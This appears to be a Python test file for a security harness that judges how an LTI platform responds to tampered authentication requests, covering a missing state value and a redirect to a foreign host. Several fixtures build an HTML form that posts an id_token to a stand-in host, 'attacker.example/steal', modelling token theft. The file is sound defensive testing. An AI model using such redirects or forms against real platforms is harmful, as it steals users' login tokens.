"""How the answers to tampered authentication requests are read (harness/lti/auth_cases.py)."""

from __future__ import annotations


def test_an_id_token_on_a_page_counts_as_issued_even_without_autosubmit():
    from harness.lti.auth_cases import token_in_page

    page = ('<form method=post action="https://attacker.example/steal?a=1&amp;b=2">'
            '<input type="hidden" name="id_token" value="x"><button>Go</button></form>')
    assert token_in_page(page) == "https://attacker.example/steal?a=1&b=2"
    assert token_in_page("<p>error: invalid_request</p>") is None
    assert token_in_page("<input name='id_token' value='x'>") == "(a page of the platform)"


def test_state_case_passes_when_the_state_is_echoed_as_received():
    from harness.lti.auth_cases import AUTH_CASES, AuthAnswer, Delivery, judge_auth

    case = next(k for k in AUTH_CASES if k.id == "auth_state_missing")
    none = judge_auth(case, AuthAnswer(deliveries=[Delivery("https://t/launch",
                                                            frozenset({"id_token"}))]), {})
    refused = judge_auth(case, AuthAnswer(status=400), {})
    invented = judge_auth(case, AuthAnswer(deliveries=[Delivery(
        "https://t/launch", frozenset({"id_token", "state"}), state="made-up")]), {})
    assert none.ok and refused.ok and not invented.ok
    assert [r for r, _ in invented.findings] == ["LT415"]


def test_a_token_issued_names_its_destination():
    from harness.lti.auth_cases import AUTH_CASES, AuthAnswer, Delivery, judge_auth

    case = next(k for k in AUTH_CASES if k.id == "auth_redirect_other_host")
    v = judge_auth(case, AuthAnswer(deliveries=[Delivery(
        "https://attacker.example/steal?x=1", frozenset({"id_token"}))]),
        {"redirect_uri": "https://attacker.example/steal"})
    assert not v.ok and "https://attacker.example/steal" in v.detail
    assert [r for r, _ in v.findings] == ["LT406", "LT707"]
